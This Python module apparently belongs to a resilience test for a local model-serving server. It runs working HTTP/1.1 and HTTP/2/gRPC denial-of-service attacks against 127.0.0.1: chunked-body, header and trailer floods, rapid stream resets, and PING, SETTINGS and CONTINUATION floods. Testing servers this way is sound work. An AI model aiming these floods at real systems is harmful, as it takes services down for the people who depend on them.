"""Abuse of HTTP/1.1 and HTTP/2 itself, from raw sockets, which `server` runs."""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time
from collections.abc import Callable

_BYTES_PER_SECOND = 500_000  # of an attack over HTTP/1.1
_REST = (
    b"POST /v1/models/%s:predict HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
)
_GET = b"GET /v1/models/%s HTTP/1.1\r\nHost: localhost\r\n"
_STATUS = b"/tensorflow.serving.ModelService/GetModelStatus"
_WATCH, _CHECK = b"/grpc.health.v1.Health/Watch", b"/grpc.health.v1.Health/Check"
_MESSAGE = bytes(5)  # an empty one, with its header
_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = (
    0,
    1,
    2,
    3,
    4,
    6,
    8,
    9,
)
_END_STREAM, _END_HEADERS = 1, 4

# A block of bytes, sent again and again over one connection; a new one when the server closes it.
_HTTP_ATTACKS: dict[str, Callable[[bytes], bytes]] = {
    "REST: chunks of one byte, without an end": lambda name: _REST % name + b"1\r\na\r\n" * 50_000,
    "REST: bodies of 900 chunks": lambda name: _REST % name + b"1\r\n \r\n" * 900 + b"0\r\n\r\n",
    "REST: trailers": lambda name: _REST % name + b"0\r\n" + b"a:\r\n" * 4000 + b"\r\n",
    "REST: extensions": lambda name: _REST % name + (b"1;" + b"a" * 900 + b"\r\na\r\n") * 100,
    "REST: 4,000 headers": lambda name: _GET % name + b"a:\r\n" * 4000 + b"\r\n",
    "REST: 100 headers": lambda name: (_GET % name + b"a:\r\n" * 100 + b"\r\n") * 10,
    "REST: pipelined requests": lambda name: (_GET % name + b"\r\n") * 100,
}


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    head = struct.pack(">I", len(payload))[1:] + bytes([kind, flags])
    return head + struct.pack(">I", stream) + payload


def _field(name: bytes, value: bytes) -> bytes:
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def _headers(path: bytes) -> bytes:
    fields = {b":method": b"POST", b":scheme": b"http", b":path": path, b":authority": b"localhost"}
    fields |= {b"content-type": b"application/grpc", b"te": b"trailers"}
    return b"".join(_field(*field) for field in fields.items())


def _open_call(path: bytes) -> Callable[[int], bytes]:
    return lambda stream: _frame(_HEADERS, _END_HEADERS, stream, _headers(path))


def _reset(stream: int) -> bytes:
    return _open_call(_STATUS)(stream) + _frame(_RESET, 0, stream, struct.pack(">I", 8))


def _watch(stream: int) -> bytes:
    return _open_call(_WATCH)(stream) + _frame(_DATA, _END_STREAM, stream, _MESSAGE)


def _call(stream: int) -> bytes:
    return _open_call(_STATUS)(stream) + _frame(_DATA, _END_STREAM, stream, _MESSAGE)


# The frames of a new stream, 100 at a time, and the pause after them in seconds.
_STREAM_ATTACKS: dict[str, tuple[Callable[[int], bytes], float]] = {
    "gRPC: streams reset at once": (_reset, 0.0),
    "gRPC: watches": (_watch, 0.1),
    "gRPC: health checks without a message": (_open_call(_CHECK), 0.05),
    "gRPC: calls without a message": (_open_call(_STATUS), 0.05),
    "gRPC: calls": (_call, 0.0),
}
# The first frame, and one that follows again and again.
_FRAME_ATTACKS: dict[str, tuple[bytes, bytes]] = {
    "gRPC: PING": (b"", _frame(_PING, 0, 0, bytes(8))),
    "gRPC: SETTINGS": (b"", _frame(_SETTINGS, 0, 0)),
    "gRPC: WINDOW_UPDATE": (b"", _frame(_WINDOW, 0, 0, struct.pack(">I", 1))),
    "gRPC: PRIORITY": (b"", _frame(_PRIORITY, 0, 1, struct.pack(">IB", 0, 1))),
    "gRPC: empty DATA": (_open_call(_STATUS)(1), _frame(_DATA, 0, 1)),
    "gRPC: DATA of one byte": (_open_call(_STATUS)(1), _frame(_DATA, 0, 1, b"\0")),
    "gRPC: CONTINUATION": (
        _frame(_HEADERS, 0, 1, _headers(_STATUS)),
        _frame(_CONTINUATION, 0, 1, _field(b"a", b"b")),
    ),
}
NAMES = [*_HTTP_ATTACKS, *_STREAM_ATTACKS, *_FRAME_ATTACKS]


def attack(name: str, model: str, rest_port: int, grpc_port: int, end: float) -> int:
    """Run one attack over one connection at a time until ``end``, and return the connections."""
    count = 0
    while time.monotonic() < end:
        count += 1
        port = rest_port if name in _HTTP_ATTACKS else grpc_port
        with (
            contextlib.suppress(OSError),
            socket.create_connection(("127.0.0.1", port), timeout=1) as opened,
        ):
            threading.Thread(target=_read_all, args=(opened,), daemon=True).start()
            if name in _HTTP_ATTACKS:
                _send_at_rate(opened, _HTTP_ATTACKS[name](model.encode()), end)
            else:
                _send_frames(opened, name, end)
    return count


def _send_at_rate(opened: socket.socket, block: bytes, end: float) -> None:
    started, sent = time.monotonic(), 0
    while time.monotonic() < end:
        for first in range(0, len(block), 8192):
            opened.sendall(block[first : first + 8192])
            sent += 8192
            time.sleep(max(0.0, started + sent / _BYTES_PER_SECOND - time.monotonic()))


def _send_frames(opened: socket.socket, name: str, end: float) -> None:
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0)
    opened.sendall(preface + _frame(_SETTINGS, 1, 0))
    if name in _FRAME_ATTACKS:
        first, repeated = _FRAME_ATTACKS[name]
        opened.sendall(first)
        while time.monotonic() < end:
            opened.sendall(repeated * 1000)
    stream = 1
    while time.monotonic() < end:
        create, pause = _STREAM_ATTACKS[name]
        opened.sendall(b"".join(create(number) for number in range(stream, stream + 200, 2)))
        stream += 200
        time.sleep(pause)


def _read_all(opened: socket.socket) -> None:
    with contextlib.suppress(OSError, ValueError):
        while opened.recv(1 << 20):
            pass
